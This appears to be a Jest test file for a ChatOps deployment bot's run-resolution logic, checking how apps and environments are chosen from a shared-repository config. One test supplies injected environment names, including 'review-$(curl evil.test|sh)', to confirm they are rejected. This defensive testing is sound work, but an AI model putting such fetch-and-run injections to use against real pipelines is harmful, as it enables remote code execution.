import { describe, expect, it } from '@jest/globals';
import { resolveRun, type RunContext } from '../../../src/run/run-context.js';
import { signedChatops } from '../../helpers/chatops.js';
import { deploymentJob, unitRunDeps } from '../../helpers/run-deps.js';

// Two apps deploy one repository: `api`'s transient `review-…` environments, and `docs` to `review-docs`.
const TWO_APPS = `
defaults: { timeout_minutes: 20 }
apps:
  api:
    repository: acme/mono
    circleci: { project_slug: gh/acme/mono }
    timeout_minutes: 45
    environments:
      review: { transient: true }
      staging: { timeout_minutes: 10 }
  docs:
    repository: acme/mono
    circleci: { project_slug: gh/acme/mono-docs }
    environments:
      review-docs: { url: https://docs.acme.dev }
`;

const signedFor = (app: string, environment: string) =>
  signedChatops({ repository: 'acme/mono', environment, ref: 'main', task: 'deploy' }, { app });

describe('resolveRun', () => {
  it('resolves the app from the signed `app` when two apps share the repository', () => {
    const t = unitRunDeps({ config: TWO_APPS });
    const job = deploymentJob({ environment: 'review-docs' }, 'acme/mono');
    const run = resolveRun(job, signedFor('docs', 'review-docs'), t.deps) as RunContext;
    expect([run.appName, run.configEnvironment, run.environmentUrl]).toEqual([
      'docs',
      'review-docs',
      'https://docs.acme.dev',
    ]);
    expect(run.timeoutMs).toBe(20 * 60_000);
  });

  it('without a signed app, takes the app whose environment the deployment names, before a branch environment', () => {
    // Made outside chat (GitHub's UI, an auto-deploy): review-docs is docs' own, not a branch of api's review.
    const t = unitRunDeps({ config: TWO_APPS });
    const job = deploymentJob({ environment: 'review-docs' }, 'acme/mono');
    const run = resolveRun(job, null, t.deps) as RunContext;
    expect([run.appName, run.configEnvironment, run.line, run.app.circleci?.project_slug]).toEqual([
      'docs',
      'review-docs',
      'acme/mono:review-docs',
      'gh/acme/mono-docs',
    ]);
    const branch = resolveRun(deploymentJob({ environment: 'review-feature-x' }, 'acme/mono'), null, t.deps);
    expect([(branch as RunContext).appName, (branch as RunContext).configEnvironment]).toEqual(['api', 'review']);
    expect((branch as RunContext).timeoutMs).toBe(45 * 60_000);
  });

  it('takes no name for a branch environment that the bot could not have made', () => {
    // The environment's name goes to the CI as chatops_environment: never anything a shell could run.
    const t = unitRunDeps({ config: TWO_APPS });
    for (const environment of [
      'review-$(curl evil.test|sh)',
      'review-a;b',
      'review-<!channel>',
      'review-',
      'review--x',
    ]) {
      expect(resolveRun(deploymentJob({ environment }, 'acme/mono'), null, t.deps)).toEqual({
        unknownEnvironment: environment,
      });
    }
  });

  it('ignores a signed app of another repository or without that environment', () => {
    const t = unitRunDeps({ config: TWO_APPS });
    const job = deploymentJob({ environment: 'staging' }, 'acme/mono');
    expect((resolveRun(job, signedFor('docs', 'staging'), t.deps) as RunContext).appName).toBe('api');
    expect((resolveRun(job, signedFor('nope', 'staging'), t.deps) as RunContext).timeoutMs).toBe(10 * 60_000);
  });

  it('names an unknown environment, and is null for an unknown repository', () => {
    const t = unitRunDeps({ config: TWO_APPS });
    expect(resolveRun(deploymentJob({ environment: 'moon' }, 'acme/mono'), null, t.deps)).toEqual({
      unknownEnvironment: 'moon',
    });
    expect(resolveRun(deploymentJob({}, 'acme/other'), null, t.deps)).toBeNull();
  });
});
